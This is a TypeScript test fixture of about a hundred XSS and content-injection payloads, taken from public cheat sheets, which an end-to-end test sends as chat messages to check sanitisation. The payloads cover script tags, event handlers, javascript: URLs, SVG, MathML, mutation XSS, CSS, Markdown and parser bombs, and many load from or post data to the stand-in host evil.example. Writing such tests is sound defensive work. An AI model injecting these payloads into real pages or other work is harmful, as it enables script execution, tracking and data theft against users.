/**
 * Known XSS and content-injection payloads, sent as chat messages by e2e/tests/xss.spec.ts.
 * Every payload tries to run script (`alert`, or setting `window.__xss`) or to make the
 * reader's browser fetch something from `evil.example` (which would leak their address).
 * `MARK` stands for a unique marker word the test puts in each one; it sits where the
 * payload has visible text, so the test can show every message still reads.
 *
 * Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet,
 * DOMPurify's own test payloads and published mutation-XSS write-ups (Heyes, Bentkowski).
 */

export interface XssVector {
  group: string;
  html: string;
}

const v = (group: string, ...payloads: string[]): XssVector[] => payloads.map((html) => ({ group, html }));

export const XSS_VECTORS: readonly XssVector[] = [
  // Script elements, plain and obfuscated; the nested one survives naive filters.
  ...v(
    "script",
    "<script>window.__xss=1</script>MARK",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>MARK",
    "<script>alert(1)</script>MARK",
    "<scr<script>ipt>alert(1)</scr</script>ipt>MARK",
    '"><script>window.__xss=1</script>MARK',
    '<script type="module">import "http://evil.example/m.js"</script>MARK',
    "<<script>alert(1);//<</script>MARK",
  ),
  // Event handlers on many elements, including allowed ones and ones that fire alone
  // (onerror, onload, autofocus+onfocus, ontoggle, animations).
  ...v(
    "event handler",
    "<img src=x onerror=window.__xss=1>MARK",
    '<img src="data:image/png;base64,iVBORw0KGgo=" onload="window.__xss=1">MARK',
    "<b onmouseover=alert(1)>MARK</b>",
    '<p onclick="window.__xss=1">MARK</p>',
    "<details open ontoggle=alert(1)><summary>MARK</summary></details>",
    "<body onload=alert(1)>MARK",
    "<input autofocus onfocus=alert(1)>MARK",
    "<select autofocus onfocus=alert(1)></select>MARK",
    "<textarea autofocus onfocus=alert(1)>MARK</textarea>",
    '<video><source onerror="alert(1)"></video>MARK',
    "<audio src=x onerror=alert(1)></audio>MARK",
    "<marquee onstart=alert(1)>MARK</marquee>",
    '<div onpointerenter=alert(1) style="position:fixed;inset:0">MARK</div>',
    '<span onanimationstart=alert(1) style="animation:spin 1s">MARK</span>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>MARK",
    "<img/src=x/onerror=alert(1)>MARK",
    '<a href="https://ok.example/" onclick="alert(1)">MARK</a>',
  ),
  // javascript:, data: and vbscript: URLs in links, images, frames, objects and forms,
  // with case, whitespace and entity tricks.
  ...v(
    "url scheme",
    '<a href="javascript:window.__xss=1">MARK</a>',
    '<a href="JaVaScRiPt:alert(1)">MARK</a>',
    '<a href=" &#14;javascript:alert(1)">MARK</a>',
    '<a href="jav&#x09;ascript:alert(1)">MARK</a>',
    '<a href="javascript&colon;alert(1)">MARK</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">MARK</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">MARK</a>',
    '<a href="vbscript:msgbox(1)">MARK</a>',
    '<img src="javascript:alert(1)" alt="MARK">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+" alt="MARK">',
    '<iframe src="javascript:alert(1)"></iframe>MARK',
    '<object data="javascript:alert(1)"></object>MARK',
    '<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>MARK',
    '<form action="javascript:alert(1)"><button>MARK</button></form>',
    '<form><button formaction="javascript:alert(1)">MARK</button></form>',
    '<form id="f1"></form><button form="f1" formaction="javascript:alert(1)">MARK</button>',
    '<isindex action="javascript:alert(1)" type=image>MARK',
  ),
  // Remote resources: each would tell evil.example who reads the room, and when.
  ...v(
    "remote load",
    '<img src="http://evil.example/pixel.png" alt="x">MARK',
    '<img src="https://evil.example/track.gif?u=1">MARK',
    '<img srcset="http://evil.example/a.png 1x" alt="x">MARK',
    '<picture><source srcset="http://evil.example/p.png"><img src="data:image/png;base64,iVBORw0KGgo=" alt="x"></picture>MARK',
    '<iframe src="http://evil.example/frame"></iframe>MARK',
    '<object data="http://evil.example/x.swf"></object>MARK',
    '<embed src="http://evil.example/x.swf">MARK',
    '<video src="http://evil.example/v.mp4" autoplay></video>MARK',
    '<audio src="http://evil.example/a.mp3" autoplay></audio>MARK',
    '<video poster="http://evil.example/poster.png"></video>MARK',
    '<a href="http://evil.example/" ping="http://evil.example/ping">MARK</a>',
    '<form action="http://evil.example/steal"><input name=p value=secret><button>MARK</button></form>',
  ),
  // SVG: onload, script inside, foreignObject, xlink:href, animate/set rewriting href.
  ...v(
    "svg",
    "<svg onload=alert(1)>MARK</svg>",
    "<svg><script>alert(1)</script>MARK</svg>",
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>MARK',
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>MARK</text></a></svg>',
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>MARK</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /><text>MARK</text></svg>",
    '<svg><image href="http://evil.example/i.png" /></svg>MARK',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x" /></svg>MARK',
  ),
  // MathML: links on math elements and namespace confusion through mtext/mglyph.
  ...v(
    "mathml",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>MARK",
    '<math href="javascript:alert(1)">MARK</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">MARK</maction></math>',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">MARK</mi></math>',
  ),
  // Mutation XSS: markup that reads safe when parsed once and turns live when the
  // sanitised output is serialised and parsed again (raw-text elements, namespaces).
  ...v(
    "mutation",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">MARK',
    "<style><style/><img src=x onerror=alert(1)>MARK",
    "<title><img src=x onerror=alert(1)></title>MARK",
    "<textarea><img src=x onerror=alert(1)></textarea>MARK",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">MARK',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>MARK",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">MARK',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">MARK',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">MARK',
    '<b><p title="</b><img src=x onerror=window.__xss=1>">MARK</p></b>',
    '<a href="https://ok.example/">MARK<img src=x onerror=alert(1)></a>',
    "<template><img src=x onerror=alert(1)></template>MARK",
    "<table><caption><svg><style><img src=x onerror=alert(1)></style></svg></caption></table>MARK",
  ),
  // CSS: expressions, url() loads, @import, behaviours and stylesheets.
  ...v(
    "css",
    '<div style="background:url(http://evil.example/bg.png)">MARK</div>',
    '<p style="width:expression(alert(1))">MARK</p>',
    '<style>@import "http://evil.example/s.css";</style>MARK',
    '<style>body{background:url("http://evil.example/b.png")}</style>MARK',
    '<link rel="stylesheet" href="http://evil.example/s.css">MARK',
    '<span style="behavior:url(http://evil.example/x.htc)">MARK</span>',
  ),
  // Document-level hijacks: base, meta refresh, link imports and prefetch, clobbering.
  ...v(
    "document",
    '<base href="http://evil.example/">MARK',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">MARK',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">MARK',
    '<link rel="import" href="http://evil.example/x.html">MARK',
    '<link rel="prefetch" href="http://evil.example/p">MARK',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>MARK',
    '<a href="https://ok.example/" id="location">MARK</a>',
    '<img name="getElementById" src="data:image/png;base64,iVBORw0KGgo=">MARK',
  ),
  // Markdown (F37): link targets, autolinks, reference definitions, HTML inside
  // Markdown, and bombs that try to make the parser or the page build without bound
  // (they must come out bounded: as text, or as plain text under the app's note).
  ...v(
    "markdown",
    "[MARK](javascript:window.__xss=1)",
    "[MARK](JaVaScRiPt:alert(1))",
    "[MARK](javascript&#58;window.__xss=1)",
    "[MARK](  javascript:window.__xss=1  )",
    "[MARK](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)",
    "[MARK](vbscript:msgbox(1))",
    '[MARK](https://ok.example/ "onmouseover=window.__xss=1")',
    "![x](http://evil.example/md.png) MARK",
    "![x](javascript:window.__xss=1) MARK",
    "<javascript:window.__xss=1> MARK",
    "<http://evil.example/auto> MARK",
    "www.evil.example/linkified MARK and mail@evil.example",
    "[MARK][r]\n\n[r]: javascript:window.__xss=1",
    '[MARK][r]\n\n[r]: http://evil.example/ref "title"',
    "**<img src=x onerror=window.__xss=1>** MARK",
    "`<script>window.__xss=1</script>` MARK",
    "```html\n<script>window.__xss=1</script>\n```\nMARK",
    "> <iframe src=javascript:window.__xss=1></iframe>\n> MARK",
    "- <svg onload=window.__xss=1>\n- MARK",
    "[<b onclick=window.__xss=1>MARK</b>](https://ok.example/)",
    `${"*".repeat(10000)}MARK`,
    `${"_".repeat(5000)}MARK${"_".repeat(5000)}`,
    `${">".repeat(5000)} MARK`,
    `${"- ".repeat(3000)}MARK`,
    `${"[".repeat(3000)}MARK${"](x)".repeat(2000)}`,
  ),
];

/** A subset the second person sends back, so the other browser's sending side is used too. */
export const REVERSE_VECTORS: readonly XssVector[] = XSS_VECTORS.filter((_, i) => i % 5 === 0);
